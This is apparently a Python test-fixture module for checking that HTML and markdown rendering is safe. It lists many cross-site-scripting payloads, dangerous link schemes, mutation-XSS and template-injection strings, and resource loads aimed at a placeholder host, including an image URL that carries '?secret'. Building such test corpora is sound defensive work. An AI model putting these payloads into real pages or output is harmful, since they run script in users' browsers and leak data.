"""Payloads of attackers: to run a script, to load a resource, or to lead users to another site.

A payload that runs sets `window.ran`; one that loads something asks for the host `canary.invalid`.
"""

RUN = "window.ran=1"
OUT = "http://canary.invalid/x"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f"<script src='{OUT}'></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<div style='animation:a 1s' onanimationstart={RUN}>x</div>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<video><source onerror={RUN}></video>",
    f"<body onload={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"</textarea></title></style></script><img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt; &#60;img src=x onerror={RUN}&#62;",
    "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} <%= window.ran=1 %>",
)

LINKS = (
    f"<a href='javascript:{RUN}' data-do='clear'>x</a>",
    f"<form><button formaction='javascript:{RUN}'>x</button></form>",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt&colon;{RUN})",
    f"[x](java&#10;script:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>opener.{RUN}</script>)",
    f"[x][y]\n\n[y]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f'[x](http://localhost "onclick={RUN}")',
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    "\\(\\htmlData{do=clear}{x}\\)",
)

FENCES = (
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><img src=x onerror={RUN}>\nx\n```',
    f"```js onload={RUN}\nx\n```",
    f"```mermaid\ngraph TD;A[<img src={OUT} onerror={RUN}>]-->B\n```",
    f"`<img src=x onerror={RUN}>` | <img src=x onerror={RUN}> |",
    f"|a|\n|-|\n|<img src=x onerror={RUN}>|",
)

LOADS = (
    f"![x]({OUT}?secret)",
    f"![x][y]\n\n[y]: {OUT}",
    f"[![x]({OUT})](http://localhost)",
    f"<img src='{OUT}'>",
    f"<img srcset='{OUT} 1x'>",
    f"<picture><source srcset='{OUT}'><img></picture>",
    f"<input type=image src='{OUT}'>",
    f"<style>body{{background:url({OUT})}}</style>",
    f"<style>@import '{OUT}';</style>",
    f"<div style='position:fixed;inset:0;background:url({OUT})'>over all</div>",
    f"<link rel=stylesheet href='{OUT}'><link rel=prefetch href='{OUT}'>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<base href='{OUT}/'><img src=y>",
    f"<table background='{OUT}'><tr><td>x</table>",
    f"<svg><image href='{OUT}'/><use href='{OUT}#y'/></svg>",
    f"<iframe src='{OUT}'></iframe><embed src='{OUT}'><object data='{OUT}'></object>",
    f"<video poster='{OUT}'></video><audio src='{OUT}'></audio>",
    f"<form action='{OUT}'><button autofocus>x</button></form>",
    f"$$\\includegraphics{{{OUT}}}$$ $$\\htmlStyle{{background:url({OUT})}}{{x}}$$",
)

PAYLOADS = SCRIPTS + LINKS + FENCES + LOADS
